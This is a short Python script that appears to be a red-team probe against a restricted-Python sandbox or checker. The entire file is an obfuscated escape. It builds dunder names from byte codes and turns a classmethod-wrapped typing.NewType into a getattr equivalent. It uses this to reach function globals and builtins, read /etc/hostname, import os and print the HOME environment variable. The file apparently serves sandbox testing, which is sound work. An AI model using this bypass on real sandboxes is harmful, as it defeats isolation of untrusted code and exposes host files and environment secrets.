# family: red team, round 36 (classmethod(NewType(name)) in a class body; copy.copy(Box.lookup) is getattr(Box, name))
import copy
import typing


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


class Box:
    lookup = classmethod(typing.NewType(dunder("getattribute"), int))


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["typing"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
